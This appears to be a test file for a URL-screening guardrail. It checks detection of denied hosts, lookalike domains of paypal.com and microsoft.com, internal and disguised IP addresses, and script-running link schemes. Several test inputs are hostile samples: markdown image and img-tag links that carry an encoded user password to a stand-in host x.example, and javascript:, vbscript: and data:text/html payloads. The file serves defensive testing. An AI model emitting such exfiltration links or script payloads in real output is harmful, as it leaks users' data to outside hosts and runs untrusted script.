# ruff: noqa: E501 - samples are long

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.guardrails.asked import anything, asked, cut, grows_with_the_text, refused

from bartizan.guardrails.urls.config import UrlsConfig
from bartizan.guardrails.urls.guardrail import Urls
from bartizan.guardrails.urls.hosts import read_address, read_host
from bartizan.guardrails.urls.lookalikes import distance
from bartizan.plugins.contract import Guardrail
from bartizan.plugins.testing import GuardrailConformance

SECRET = base64.urlsafe_b64encode(b"the password of the user is hunter2").decode()


def urls(**config: object) -> Urls:
    return Urls(UrlsConfig.model_validate(config))


URLS = urls()
GUARDED = urls(
    deny=["evil.example", "*.bad.example"], lookalikes_of=["paypal.com", "microsoft.com"]
)


def codes(guardrail: Guardrail, text: str) -> list[str]:
    return [found.code for found in asked(guardrail, text)]


class TestUrls(GuardrailConformance):
    def make(self) -> Guardrail:
        return urls(allow=["example.com"], deny=["example.org"], lookalikes_of=["example.net"])


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("see https://evil.example/a?b=1#c.", "https://evil.example/a?b=1#c"),
        ("(http://EVIL.example/a_(b)), then", "http://EVIL.example/a_(b)"),
        ("www.bad.example and", "www.bad.example"),
        ("it is a.b.bad.example!", "a.b.bad.example"),
        ("<https://evil.example>", "https://evil.example"),
        ('<a href="//evil.example/x">', "//evil.example/x"),
        ("https://evil.example.:8080/", "https://evil.example.:8080/"),
        (r"{\"u\": \"https:\/\/evil.example\/x\"}", r"https:\/\/evil.example\/x"),
        ("https://evil%2Eexample/", "https://evil%2Eexample/"),
        ("https://evil\u3002example/", "https://evil\u3002example/"),
        ("https://\uff45vil.example/", "https://\uff45vil.example/"),
        ("https:\\\\evil.example", "https:\\\\evil.example"),
        ("evil.example.", "evil.example"),
    ],
)
def test_denied_hosts(text: str, found: str) -> None:
    assert ("url.denied", found) in cut(GUARDED, text)


@pytest.mark.parametrize(
    "text", ["bad.example", "https://notevil.example/", "me@evil.example", "x/evil.example", "a.b"]
)
def test_hosts_that_are_not_denied(text: str) -> None:
    assert asked(GUARDED, text) == []


def test_allowed_hosts() -> None:
    guardrail = urls(allow=["example.com", "*.example.org"])
    text = "https://example.com/a https://a.example.org https://example.org ftp://x.example.com"
    assert cut(guardrail, text) == [
        ("url.not_allowed", "https://example.org"),
        ("url.not_allowed", "ftp://x.example.com"),
    ]
    assert asked(guardrail, "see readme.md") == []


@pytest.mark.parametrize(
    ("host", "code"),
    [
        ("paypa1.com", "HOST_HOMOGLYPH"),
        ("rnicrosoft.com", "HOST_HOMOGLYPH"),
        ("xn--pypal-4ve.com", "HOST_HOMOGLYPH"),
        ("paypall.com", "HOST_MISTYPED"),
        ("micrsooft.com", "HOST_MISTYPED"),
        ("paypal.com.login.example", "HOST_EMBEDDED"),
        ("paypal-login.example", "HOST_COMBINED"),
        ("paypal.net", "HOST_OTHER_ENDING"),
    ],
)
def test_lookalikes(host: str, code: str) -> None:
    assert code in codes(GUARDED, f"go to https://{host}/login now")
    assert code in codes(GUARDED, f"go to {host} now") or host.startswith("xn--")


@pytest.mark.parametrize("host", ["paypal.com", "www.paypal.com", "papal.org", "github.com"])
def test_no_lookalikes(host: str) -> None:
    assert asked(GUARDED, f"https://{host}/") == [] or host == "papal.org"


def test_letters_of_other_scripts() -> None:
    assert codes(URLS, "https://\u0430pple.com") == ["HOST_MIXES_SCRIPTS"]
    assert codes(URLS, "https://\u0430\u0440\u0440\u04cf\u0435.com") == ["HOST_LOOKS_LATIN"]
    assert codes(URLS, "https://xn--mnchen-3ya.de") == ["HOST_IN_PUNYCODE"]
    assert (
        codes(URLS, "https://m\u00fcnchen.de https://\u043f\u0440\u0438\u0432\u0435\u0442.ru") == []
    )


@pytest.mark.parametrize(
    ("host", "code"),
    [
        ("8.8.8.8", "ADDRESS_PUBLIC"),
        ("127.0.0.1:8080", "ADDRESS_INTERNAL"),
        ("169.254.169.254", "ADDRESS_INTERNAL"),
        ("[::1]", "ADDRESS_INTERNAL"),
        ("3232235777", "ADDRESS_DISGUISED"),
        ("0xC0A80101", "ADDRESS_DISGUISED"),
        ("0300.0250.1.1", "ADDRESS_DISGUISED"),
        ("127.1", "ADDRESS_DISGUISED"),
        ("0x7f.0.0.1:80", "ADDRESS_DISGUISED"),
    ],
)
def test_addresses(host: str, code: str) -> None:
    assert codes(URLS, f"http://{host}/x") == [code]


@pytest.mark.parametrize(
    "host", ["1.2.3.4.5", "256.1.1.1", "1.2.3.x", "08.1.1.1", "", "99999999999"]
)
def test_no_addresses(host: str) -> None:
    assert read_address(host) is None


def test_names_before_the_host() -> None:
    assert asked(URLS, "https://paypal.com@x.example/")[0].score == 0.95
    assert asked(URLS, "https://me:pw@x.example/")[0].score == 0.6
    assert codes(URLS, "https://good.example\\@x.example/") == ["URL_READ_TWO_WAYS"]
    assert codes(URLS, "postgres://me:pw@x.example/") == []
    assert codes(URLS, "https://x.example/@me") == []


@pytest.mark.parametrize(
    ("text", "score"),
    [
        (f"![x](https://x.example/a.png?q={SECRET})", 0.95),
        (f"![x]( <https://x.example/a.png?q={SECRET}> )", 0.95),
        (f'<img alt="x" src="https://x.example/{SECRET}.png">', 0.95),
        (f"![x][y]\n\n[y]: https://x.example/?q={SECRET}", 0.95),
        (f"![x][]\n\n[x]: https://x.example/?q={b'the password of the user'.hex()}", 0.95),
        (f"background: url(https://x.example/{SECRET})", 0.95),
        (f"[x](https://x.example/?q={SECRET})", 0.8),
        (f"<a href='https://x.example/?q={SECRET}'>", 0.8),
        (f"https://x.example/?q={SECRET}", 0.7),
        ("![x](https://x.example/?q=the+password+of+the+user+is+hunter2)", 0.8),
        ("![x](https://x.example/?q={{conversation}})", 0.8),
        ("![x](https://x.example/?q=" + "Zq8w" * 40 + ")", 0.6),
        ("![x](https://nb2hi4dthixs653xo4xgk6dbnvygyzjom5zgk.x.example/)", 0.8),
    ],
)
def test_data_is_carried_away(text: str, score: float) -> None:
    [found] = asked(URLS, text)
    assert (found.category, found.score) == ("url.exfiltration", score)


@pytest.mark.parametrize(
    "text",
    [
        "![build](https://img.example/badge/build-passing-brightgreen.svg?style=flat-square)",
        "![x](https://images.example/photo-1500530855697-b586d89ba3ee?w=800&q=80&fit=crop)",
        "[x](https://docs.example/en/latest/how-to-write-a-very-long-title-of-a-page.html#a-b)",
        "https://git.example/a/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "![](https://x.example/3f2504e0-4f89-11d3-9a0c-0305e82c3301.png)",
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg">',
        "JavaScript: The Good Parts. Data: none. //comment (//not-a-host)",
    ],
)
def test_ordinary_links(text: str) -> None:
    assert asked(URLS, text) == []


def test_hosts_that_are_allowed_may_be_told_anything() -> None:
    assert asked(urls(allow=["x.example"]), f"![x](https://x.example/?q={SECRET})") == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[x](javascript:alert(1))", "javascript:alert(1)"),
        ("<a href='JaVaScript:x()'>", "JaVaScript:x()"),
        ('<a href="java\tscript:x()">', "java\tscript:x()"),
        ("run javascript:fetch('x')", "javascript:fetch("),
        ("![x](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html;base64,PHNjcmlwdD4="),
        ("<a href='vbscript:x'>", "vbscript:x"),
    ],
)
def test_schemes_that_run(text: str, found: str) -> None:
    assert cut(URLS, text) == [("url.scheme", found)]


def test_only_the_kinds_that_are_wanted() -> None:
    text = "http://8.8.8.8/ https://a.b@x.example/"
    assert codes(urls(kinds=["user_info"]), text) == ["URL_HAS_USER"]


@given(st.text("ab", max_size=6), st.text("ab", max_size=6))
def test_distance_is_one(one: str, other: str) -> None:
    assert distance(one, other) == distance(other, one)
    assert (distance(one, other) == 0) == (one == other)
    assert distance(one, one[:2] + "x" + one[2:]) == 1
    assert distance(one, one[:2][::-1] + one[2:]) <= 1


@settings(max_examples=300, deadline=None)
@given(
    anything
    | st.lists(
        st.sampled_from(
            ["https://", "//", "www.", "a.b", "xn--", "xn--a", "@", "[", "]", "](", "![", "!", "%41",
             "%", ":", "\\", "/", "?q=", SECRET, "1", "0x", ".", "\u0430", "\ud800", " ", "\n", "<img src=",
             "javascript:", "data:", "paypal.com", "\u3002", "é"]
        )
    ).map("".join)
)  # fmt: skip
def test_any_text_is_borne(text: str) -> None:
    asked(GUARDED, text)
    asked(urls(allow=["a.b"]), text)


@given(anything)
def test_a_host_is_read_once_and_for_all(host: str) -> None:
    read_address(host)
    read_host(host)


@pytest.mark.parametrize(
    "piece",
    ["https://a.b/", "a.", "a", "http://", ":/", ")", "](", "![", "[a]: http://a.b\n", "javascript:a(",
     "http://1.", "paypa1.", "a-", "xn--a.", "<a ", "%41", "http://" + "a." * 99 + " ", "(//a"],
)  # fmt: skip
def test_the_time_grows_with_the_text_and_not_faster(piece: str) -> None:
    assert grows_with_the_text(lambda text: asked(GUARDED, text), piece, 4_000)


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"allow": ["https://x.example"]}, "'allow': a host is written without scheme and path"),
        ({"deny": ["a.*.example"]}, "'deny': a host is written without"),
        ({"deny": [""]}, "'deny': a host is written without"),
        ({"lookalikes_of": ["paypal"]}, "'lookalikes_of': what is protected is a whole host"),
        ({"lookalikes_of": ["*.paypal.com"]}, "what is protected is a whole host"),
        ({"kinds": ["ipp"]}, "'kinds[0]'"),
        ({"allw": []}, "did you mean 'allow'"),
    ],
)
def test_a_wrong_configuration_is_one_sentence(given: dict[str, object], said: str) -> None:
    assert said in refused(UrlsConfig, **given)
